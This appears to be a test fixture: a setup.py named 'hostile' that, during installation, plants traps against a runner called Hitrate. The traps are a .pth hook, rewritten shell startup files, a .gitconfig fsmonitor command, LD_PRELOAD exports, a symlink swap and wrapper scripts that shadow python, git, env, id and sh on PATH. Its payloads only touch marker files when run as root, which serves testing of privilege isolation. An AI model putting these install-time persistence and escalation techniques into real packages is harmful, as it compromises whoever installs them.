"""Lays a trap while it is installed: whoever starts the project's interpreter next, falls into it."""

import glob
import os
import tempfile

from setuptools import setup

marks = os.path.join(tempfile.gettempdir(), "marks")
os.makedirs(marks, exist_ok=True)
scratch = os.path.dirname(tempfile.gettempdir())
for folder in glob.glob(os.path.join(scratch, "environment", "lib", "python*", "site-packages")):
    with open(os.path.join(folder, "installed.pth"), "w") as file:
        file.write(f"import os; os.geteuid() or open({os.path.join(marks, 'sprung-install')!r}, 'w')\n")

# What Hitrate opens to this user between two commands is to become what that user must not reach.
opened = os.path.join(tempfile.gettempdir(), "bytecode")
if not os.path.exists(opened):
    os.symlink("/github", opened)
elif os.path.isdir(opened) and not os.path.islink(opened):
    os.rename(opened, opened + ".real")
    os.symlink("/github", opened)

# Whatever Hitrate's next process may read as it starts, though nothing of the project has been run by then.
by_root = f"test \"$(/usr/bin/id -u)\" = 0 && touch {marks}/sprung-"
home = os.path.join(scratch, "home")
for name in (".bashrc", ".profile", ".bash_profile", ".env"):
    with open(os.path.join(home, name), "w") as file:
        file.write(f"{by_root}installed{name}\n")
os.unlink(os.path.join(home, ".gitconfig"))
with open(os.path.join(home, ".gitconfig"), "w") as file:
    file.write(f'[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = "{by_root.replace(chr(34), chr(92) + chr(34))}installed-fsmonitor"\n')
with open(os.path.join(scratch, "environment", "libtrap.so"), "w") as file:
    file.write("no library")
for name in ("activate", "LD_PRELOAD.env"):
    with open(os.path.join(scratch, "environment", "bin", name), "a") as file:
        file.write(f"\nexport LD_PRELOAD={file.name}/../../libtrap.so\n{by_root}{name}\n")

# The interpreter that Hitrate asks where modules are found is another one from now on.
python = os.path.join(scratch, "environment", "bin", "python")
if os.path.islink(python):
    real = os.path.realpath(python)
    os.unlink(python)
    with open(python, "w") as file:
        file.write(f'#!/bin/bash\n{by_root}program-python\nexec -a "$0" {real} "$@"\n')
    os.chmod(python, 0o755)

# Programs that Hitrate runs as root, in the first folder of the PATH that the tests get.
for name in ("setpriv", "choom", "prlimit", "env", "git", "id", "bash", "sh"):
    path = os.path.join(scratch, "environment", "bin", name)
    with open(path, "w") as file:
        real = "/bin/sh" if name in ("sh", "bash") else f"/usr/bin/{name}"
        file.write(f'#!/bin/sh\ntest "$(/usr/bin/id -u)" = 0 && touch {marks}/sprung-program-{name}\nexec {real} "$@"\n')
    os.chmod(path, 0o755)

setup(name="hostile", version="1.0", py_modules=["victim"])
